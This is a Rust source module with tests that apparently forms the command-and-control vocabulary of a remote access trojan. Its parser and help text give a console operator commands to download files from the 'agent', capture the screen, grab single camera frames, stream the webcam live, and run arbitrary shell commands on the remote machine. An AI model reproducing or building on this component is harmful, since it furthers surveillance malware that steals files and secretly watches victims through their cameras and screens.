//! Command vocabulary.
//!
//! One command per message: a trimmed UTF-8 line. Dispatch is case-sensitive
//! and anything outside the fixed vocabulary runs as a shell command.

/// A decoded command from the console.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    /// End the session. No payload follows.
    Terminate,
    /// Change the agent's working directory.
    Cd(String),
    /// Stream a file's bytes back, sentinel-terminated.
    Download(String),
    /// Capture the full display and stream the encoded image.
    Screenshot,
    /// Capture one camera frame and stream the encoded image.
    CamPic,
    /// Open the stream channel and push frames until told to stop.
    Webcam,
    /// Anything else non-empty: run in the shell.
    Shell(String),
    /// Empty input. Ignored; no response is sent.
    Empty,
}

impl Command {
    /// Parse a raw command line. Surrounding whitespace is trimmed first;
    /// keywords are case-sensitive.
    pub fn parse(line: &str) -> Self {
        let line = line.trim();
        if line.is_empty() {
            return Self::Empty;
        }
        if let Some(path) = line.strip_prefix("cd ") {
            return Self::Cd(path.trim().to_string());
        }
        if let Some(path) = line.strip_prefix("download ") {
            return Self::Download(path.trim().to_string());
        }
        match line {
            "terminate" => Self::Terminate,
            "screenshot" => Self::Screenshot,
            "campic" => Self::CamPic,
            "webcam" => Self::Webcam,
            other => Self::Shell(other.to_string()),
        }
    }
}

/// Help text printed by the console. Never touches the connection.
pub const HELP_TEXT: &str = "\
Available commands:
  cd <path>         - Change remote working directory
  download <file>   - Download file from the agent
  screenshot        - Capture a screenshot
  campic            - Capture a single camera frame
  webcam            - Start the live frame stream
  terminate         - Close the connection and exit
  help              - Show this help message

  Any other command is executed in the agent's shell.";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_vocabulary() {
        assert_eq!(Command::parse("terminate"), Command::Terminate);
        assert_eq!(Command::parse("screenshot"), Command::Screenshot);
        assert_eq!(Command::parse("campic"), Command::CamPic);
        assert_eq!(Command::parse("webcam"), Command::Webcam);
    }

    #[test]
    fn parse_trims_whitespace() {
        assert_eq!(Command::parse("  terminate \n"), Command::Terminate);
        assert_eq!(Command::parse("cd  /tmp "), Command::Cd("/tmp".to_string()));
    }

    #[test]
    fn parse_arguments() {
        assert_eq!(Command::parse("cd /etc"), Command::Cd("/etc".to_string()));
        assert_eq!(
            Command::parse("download notes.txt"),
            Command::Download("notes.txt".to_string())
        );
    }

    #[test]
    fn parse_is_case_sensitive() {
        // Unknown capitalizations fall through to the shell
        assert_eq!(
            Command::parse("Terminate"),
            Command::Shell("Terminate".to_string())
        );
        assert_eq!(
            Command::parse("SCREENSHOT"),
            Command::Shell("SCREENSHOT".to_string())
        );
    }

    #[test]
    fn parse_shell_fallthrough() {
        assert_eq!(
            Command::parse("ls -la /tmp"),
            Command::Shell("ls -la /tmp".to_string())
        );
        // "cdx" must not match the "cd " prefix
        assert_eq!(Command::parse("cdx"), Command::Shell("cdx".to_string()));
    }

    #[test]
    fn parse_empty() {
        assert_eq!(Command::parse(""), Command::Empty);
        assert_eq!(Command::parse("   \t"), Command::Empty);
    }
}
